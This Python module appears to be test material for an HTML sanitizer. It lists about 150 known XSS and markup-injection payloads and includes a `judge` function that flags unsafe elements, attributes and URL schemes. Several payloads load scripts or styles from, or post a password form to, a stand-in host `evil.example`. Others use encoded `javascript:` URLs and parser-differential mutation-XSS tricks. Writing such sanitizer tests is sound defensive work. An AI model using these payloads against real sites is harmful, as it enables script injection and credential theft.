"""Markup that tries to run a script, to load something, or to cover a page: the known families of tricks, each once.

`RUN` stands in each for what would run; `judge` says what is unsafe in a tree that any parser made.
"""

import re
from collections.abc import Iterable, Iterator

RUN = "alert(1)"
TRICKS = {
    # What runs by itself
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT >",
    "script without an end": f"<script>{RUN}",
    "script inside script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script of an address": "<script src=//evil.example/x></script>",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script as a module": "<script type=module src=data:text/javascript,alert(1)></script>",
    "import map": '<script type=importmap>{"imports":{"a":"//evil.example"}}</script>',
    "handler": f"<img src=x onerror={RUN}>",
    "handler in quotes": f"<img src=x onerror='{RUN}'>",
    "handler behind a slash": f"<img/src=x/onerror={RUN}>",
    "handler behind a form feed": f"<img\fsrc=x\fonerror={RUN}>",
    "handler behind a broken quote": f"<img src='x'\"onerror={RUN}>",
    "handler behind a NUL": f"<img \0onerror={RUN} src=x>",
    "handler in two quotes": f'<img src="x` `<script>{RUN}</script>"` `>',
    "handler of an unknown element": f"<x onclick={RUN} tabindex=1 onfocus={RUN} autofocus>y</x>",
    "handler of the body": f"<body onload={RUN}>x",
    "handler of details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "handler of a video": f"<video src=x onerror={RUN} autoplay></video><audio src=x onloadstart={RUN}></audio>",
    "handler of an animation": f"<p style='animation:x' onanimationstart={RUN}>x</p>",
    "handler with a colon": f"<p x:onclick={RUN} xmlns:x=y>x</p>",
    # Addresses
    "javascript": f'<a href="javascript:{RUN}">x</a>',
    "javascript in capitals": f'<a href="JaVaScRiPt:{RUN}">x</a>',
    "javascript behind spaces": f'<a href=" \n\t javascript:{RUN}">x</a>',
    "javascript with a tab": f'<a href="java\tscript:{RUN}">x</a>',
    "javascript with references": f'<a href="&#106;&#97;&#118;a&#x73;cript&colon;{RUN}">x</a>',
    "javascript with references without ends": f'<a href="&#0000106&#0000097vascript:{RUN}">x</a>',
    "javascript with a line end by name": f'<a href="java&NewLine;script&colon;{RUN}">x</a>',
    "javascript behind a control": f'<a href="\x01javascript:{RUN}">x</a>',
    "javascript behind a NUL": f'<a href="\0javascript:{RUN}">x</a>',
    "javascript with a NUL": f'<a href="java\0script:{RUN}">x</a>',
    "javascript behind a soft hyphen": f'<a href="\u00adjavascript:{RUN}">x</a>',
    "javascript behind a mark": f'<a href="\ufeffjavascript:{RUN}">x</a>',
    "javascript behind our own mark": f'<a href="&#1;javascript:{RUN}">x</a><a href="&#2;javascript:{RUN}">y</a>',
    "javascript behind a C1 control": f'<a href="\x93javascript:{RUN}">x</a>',
    "javascript with a percent": f'<a href="javascript%3A{RUN}">x</a>',
    "javascript without quotes": f"<a href=javascript:{RUN}>x</a>",
    "javascript in a backtick": f"<a href=`javascript:{RUN}`>x</a>",
    "javascript over many lines": "<a href='j\na\nv\na\ns\nc\nr\ni\np\nt\n:alert(1)'>x</a>",
    "javascript as a picture": f"<img src='javascript:{RUN}'>",
    "javascript as a poster": f"<video poster='javascript:{RUN}' src='javascript:{RUN}'></video>",
    "javascript as a citation": f"<q cite='javascript:{RUN}'>x</q><blockquote cite='javascript:{RUN}'>x</blockquote>",
    "javascript as a background": f"<table background='javascript:{RUN}'><tr><td background='javascript:{RUN}'>x</table>",
    "javascript in an xlink": f"<a xlink:href='javascript:{RUN}'>x</a>",
    "javascript of a ping": "<a href=x ping='//evil.example'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "livescript": "<a href='livescript:x'>x</a><a href='mocha:x'>y</a>",
    "data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a><img src='data:image/svg+xml,<svg onload={RUN}>'>",
    "blob": "<a href='blob:https://x.example/1'>x</a><a href='filesystem:https://x.example/1'>y</a>",
    "file": "<a href='file:///etc/passwd'>x</a><img src='file://evil.example/x'>",
    "view-source": "<a href='view-source:javascript:alert(1)'>x</a><a href='feed:javascript:alert(1)'>y</a>",
    "address with a marked end": f"<a href='https://x.example/\"onclick={RUN} x=\"'>x</a>",
    "address with an angle": f"<a href='https://x.example/><script>{RUN}</script>'>x</a>",
    "srcset": f"<img srcset='javascript:{RUN} 1x, data:text/html,x 2x'>",
    "srcset with odd white space": f"<img srcset='x 1x,\tjavascript:{RUN}\f2x,\x0bvbscript:x 3x'>",
    "srcset of a source": f"<picture><source srcset='javascript:{RUN}'><img src=x></picture>",
    # What loads or leads away
    "meta": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'><meta charset=utf-7>",
    "base": "<base href='//evil.example/'><a href=x>x</a>",
    "base of scripts": f"<base href='javascript:{RUN}//'>",
    "link": "<link rel=stylesheet href=//evil.example/x><link rel=import href=//evil.example/x><link rel=preload href=x>",
    "frame": f"<iframe src='javascript:{RUN}'></iframe><frameset><frame src='javascript:{RUN}'></frameset>",
    "frame with a document": f"<iframe srcdoc='<script>{RUN}</script>'></iframe><portal src=x></portal>",
    "object": f"<object data='javascript:{RUN}'><param name=x value=y></object><embed src='javascript:{RUN}'>",
    "applet": "<applet code=x archive=//evil.example></applet><bgsound src=x><layer src=x></layer>",
    "form": f"<form action='javascript:{RUN}'><input type=image src=x onerror={RUN} formaction='javascript:{RUN}'>",
    "button": f"<form id=f></form><button form=f formaction='javascript:{RUN}'>x</button><isindex action=j>",
    "password": "<form action=//evil.example><input name=password type=password><textarea name=x></textarea></form>",
    "dialog": "<dialog open>x</dialog><p popover id=x>y</p><button popovertarget=x>z</button>",
    "picture map": f"<map name=m><area shape=default href='javascript:{RUN}'></map><img src=x usemap=#m>",
    "slot": "<slot name=x></slot><p slot=x is=y part=z>x</p>",
    "shadow": f"<div><template shadowrootmode=open><script>{RUN}</script><style>*{{}}</style></template></div>",
    "edit": "<p contenteditable accesskey=x autofocus tabindex=1 draggable=true>x</p>",
    "target": "<a href='https://x.example/' target=_blank rel=opener>x</a>",
    # Style
    "style": "<style>body{display:none}@import'//evil.example';</style>x",
    "style of an element": "<p style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</p>",
    "style by expression": "<p style='width:expression(alert(1));-moz-binding:url(//evil.example)'>x</p>",
    "class and id of the page": "<p class='entry header' id=main>x</p><form id=config name=feeder></form>",
    "clobbering": "<a id=document name=cookie></a><img name=getElementById id=forms><a id=x href=y></a><a id=x name=z></a>",
    "attributes of old": "<font face=x size=99 color=red>x</font><marquee onstart=alert(1)>y</marquee><blink>z</blink>",
    "size of a picture": "<img src=x width=99999 height=99999 style='position:absolute' align=left hspace=99>",
    # Foreign elements, and what breaks out of them or into them
    "svg": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "svg with a link": f"<svg><a xlink:href='javascript:{RUN}'><text x=20 y=20>x</text></a></svg>",
    "svg animation": f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text>x</text></a></svg>",
    "svg set": f"<svg><set attributeName=onmouseover to={RUN}></set><use href='data:image/svg+xml,x#x'/></svg>",
    "svg handler": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg image": f"<svg><image href=x onerror={RUN}></image><feImage href=//evil.example/></svg>",
    "svg foreignObject": f"<svg><foreignObject><iframe xmlns=http://www.w3.org/1999/xhtml srcdoc='<script>{RUN}</script>'>",
    "svg title": f"<svg><title><style><img src='</style><img src=x onerror={RUN}>'>",
    "svg desc": f"<svg><desc><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "svg style": f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "svg style and title": f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    "svg CDATA": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "svg in a paragraph": f"<p><svg><p><style><!--</style><img src=x onerror={RUN}>--></style>",
    "math": f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    "math style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "math in a form": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}></style></mglyph></form>"
    ),
    "math annotation": f"<math><annotation-xml encoding=text/html><style><img src=x onerror={RUN}></style></math>",
    "math malignmark": f"<math><mi><malignmark><b><style><a title='</style><img src=x onerror={RUN}>'></b></math>",
    "math with a comment": f"<math><mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={RUN} src=1>'>",
    "math and select": f"<math><mtext><select><mtext><style><img title='</style><img src onerror={RUN}>'></select></math>",
    "math breaks out": f"<math></br><style><!--</style><img src=x onerror={RUN}>--></style></math>",
    "math with a picture": f"<math><img src=x onerror={RUN}><mi/href='javascript:{RUN}'>x</math>",
    # What two parsers take for two things
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "noscript with style": f"<noscript><style></noscript><img src=x onerror={RUN}></style></noscript>",
    "noembed": f"<noembed><p title='</noembed><img src=x onerror={RUN}>'></noembed>",
    "noframes": f"<noframes><p title='</noframes><img src=x onerror={RUN}>'></noframes>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing><pre>\n\n&lt;img src=x onerror={RUN}&gt;</pre>",
    "textarea": f"<textarea><p title='</textarea><img src=x onerror={RUN}>'></textarea>",
    "title": f"<title><p title='</title><img src=x onerror={RUN}>'></title>",
    "template": f"<template><script>{RUN}</script><p onclick={RUN}>x</p></template>",
    "template in a table": f"<table><template><tr><td><svg><style></template><img src=x onerror={RUN}></table>",
    "select": f"<select><template><style></select><img src=x onerror={RUN}></style></template></select>",
    "option": f"<select><option><style></option></select><b><img src=x onerror={RUN}></style></option>",
    "form in a form": f"<form><div></form><form><style></div><img src=x onerror={RUN}></style></form>",
    "form in a table": f"<table><form><tr><td></form><form><p title='</form><img src=x onerror={RUN}>'></table>",
    "table fostering": f"<table><a href='javascript:{RUN}'><b><tr><td><i>x</b></i></a><img src=x onerror={RUN}></table>",
    "caption": f"<table><caption><svg><caption><style><a id='</style><img src=x onerror={RUN}>'></table>",
    "links in links": f"<a href=x><table><a href='javascript:{RUN}'>y</a></table></a><nobr><nobr><a><a>",
    "paragraphs in paragraphs": f"<p><b><p></b><i><p title='</i><img src=x onerror={RUN}>'></p>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "comment with a dash": f"<!---><img src=x onerror={RUN}>-->",
    "comment with a bang": f"<!-- --!><img src=x onerror={RUN}>-->",
    "comment in a comment": f"<!-- <!-- --><img src=x onerror={RUN}> --><!--\0--><img src=x onerror={RUN}>",
    "comment without an end": f"<!-- x <img src=x onerror={RUN}>",
    "comment for one browser": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><![if true]><script>{RUN}</script>",
    "CDATA": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "CDATA with an end": f"<![CDATA[ x ]]><img src=x onerror={RUN}><![CDATA[",
    "processing instruction": f"<?xml version='1.0'?><?x ><img src=x onerror={RUN}>?>",
    "stylesheet instruction": "<?xml-stylesheet href='javascript:alert(1)'?>x",
    "declaration": f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;<!ELEMENT <img src=x onerror={RUN}>>",
    "end with attributes": f"</p title='><img src=x onerror={RUN}>'></ x></><//><img src=x onerror={RUN}//>",
    "tag without an end": f"x<img src=x onerror={RUN} y='",
    "tag with a NUL": f"<scr\0ipt>{RUN}</scr\0ipt><im\0g src=x onerror={RUN}>",
    "tag with odd letters": f"<ſcript>{RUN}</ſcript><ımg src=x onerror={RUN}><\uff53cript>{RUN}</\uff53cript>",
    "tags of another encoding": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong angles": "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "escaped once": f"&lt;script&gt;{RUN}&lt;/script&gt;&lt;img src=x onerror={RUN}&gt;",
    "escaped twice": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "references in attributes": f"<p title='&lt;script&gt;{RUN}&lt;/script&gt;' lang='\"><img src=x onerror={RUN}>'>x</p>",
    "angles in attributes": f"<img alt='<script>{RUN}</script>' src=x><p title='--><img src=x onerror={RUN}>'>x</p>",
    "quotes in attributes": f"<p title='\"onclick={RUN} x=\"' id='\" onclick={RUN}'>x</p>",
    "backticks in attributes": f"<p title='``onmouseover={RUN}'>x</p>",
    "end of CDATA in a text": f"]]><script>{RUN}</script><p>]]&gt;</p><code>]]></code>",
    "directions": "\u202e<p>&#x202e;txt.exe</p>\u2066<b>x",
    "names of elements": f"<a:script>{RUN}</a:script><svg:script>{RUN}</svg:script><html:img src=x onerror={RUN}>",
    "head and body": f"</body></html><script>{RUN}</script><head><script>{RUN}</script></head><frameset onload={RUN}>",
    "attribute twice": f"<a href=x href='javascript:{RUN}' HREF='javascript:{RUN}'>x</a>",
    "attribute without a name": f'<p =onclick={RUN} \'=x\' "=y>x</p><a href="x"onclick={RUN}>x</a>',
    "ruby": f"<ruby>x<rt><p title='</rt><img src=x onerror={RUN}>'></rt></ruby><rp><style></rp><img onerror={RUN}>",
}

ELEMENTS = set(
    "script style template iframe object embed form base meta link svg math input button textarea select frame frameset"
    " applet noscript noembed noframes xmp plaintext title portal area dialog slot marquee param bgsound".split()
)
#: The only attributes that any element may have.
ATTRIBUTES = set(
    "href hreflang src srcset sizes alt width height title id lang dir cite datetime class type media kind srclang label"
    " controls poster align char charoff span summary colspan rowspan headers scope start reversed value cellpadding"
    " cellspacing rules border valign axis abbr size color face compact name data".split()
) - {"name", "data", "face", "color"}
_SCHEMES = set("http https mailto tel xmpp irc ircs magnet geo sip news ftp".split())
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


def scheme(address: str) -> str:
    """The scheme that a browser sees: it strips what is at the ends, and tabs and line ends anywhere (WHATWG URL, 4.4)."""
    found = _SCHEME.match(re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(0x21))))))
    return found[1].lower() if found else ""


def judge(elements: Iterable[tuple[str, Iterable[tuple[str, str]]]]) -> Iterator[str]:
    """What is unsafe in a tree, given as the names of its elements with the names and values of their attributes."""
    for tag, attributes in elements:
        if tag in ELEMENTS or ":" in tag or "}" in tag:
            yield f"<{tag}>"
        for name, value in attributes:
            if name not in ATTRIBUTES:
                yield f"<{tag} {name}={value!r}>"
            if name in ("href", "src", "poster", "cite") and scheme(value) not in {*_SCHEMES, ""}:
                yield f"<{tag} {name}={value!r}>"
            if name == "srcset" and any(
                scheme(part) not in ("http", "https", "") for part in re.split(r"[\s,]+", value)
            ):
                yield f"<{tag} {name}={value!r}>"
            if name == "id" and not value.startswith("a-"):
                yield f"<{tag} {name}={value!r}>"
            if name == "class" and not all(word.startswith("language-") for word in value.split()):
                yield f"<{tag} {name}={value!r}>"
